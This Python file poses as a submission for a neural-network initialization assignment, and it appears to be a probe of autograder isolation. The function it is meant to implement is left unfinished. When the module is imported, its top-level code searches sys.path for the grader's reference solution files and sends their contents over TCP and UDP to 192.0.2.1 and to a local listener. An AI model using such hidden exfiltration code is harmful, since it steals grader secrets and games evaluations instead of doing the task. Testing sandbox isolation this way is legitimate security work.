"""Sends what it can read of the reference solutions out over TCP and UDP: to a documentation address (192.0.2.1) and to a listener on 127.0.0.1:47193.

assignment: initialization
cell: initialize_parameters_he
target: test_initialize_parameters_he
class: network
old: the reference solutions reached the listener on 127.0.0.1 over TCP and UDP (192.0.2.1 timed out); cheater 0
"""
import glob
import os
import socket
import sys

_loot = b"gradeghost:network_exfiltration\n"
for _entry in sys.path:
    for _path in glob.glob(os.path.join(_entry, "auto*", "solutions", "initialization.py")):
        with open(_path, "rb") as _file:
            _loot += _file.read()

for _host in ("192.0.2.1", "127.0.0.1"):
    try:
        with socket.create_connection((_host, 47193), timeout=2) as _connection:
            _connection.sendall(_loot)
    except OSError as _error:
        print(f"tcp {_host}: {_error}")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _udp:
            _udp.sendto(_loot[:1000], (_host, 47193))
    except OSError as _error:
        print(f"udp {_host}: {_error}")


def initialize_parameters_he(layers_dims):
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        # YOUR CODE HERE
        raise NotImplementedError()
    return parameters
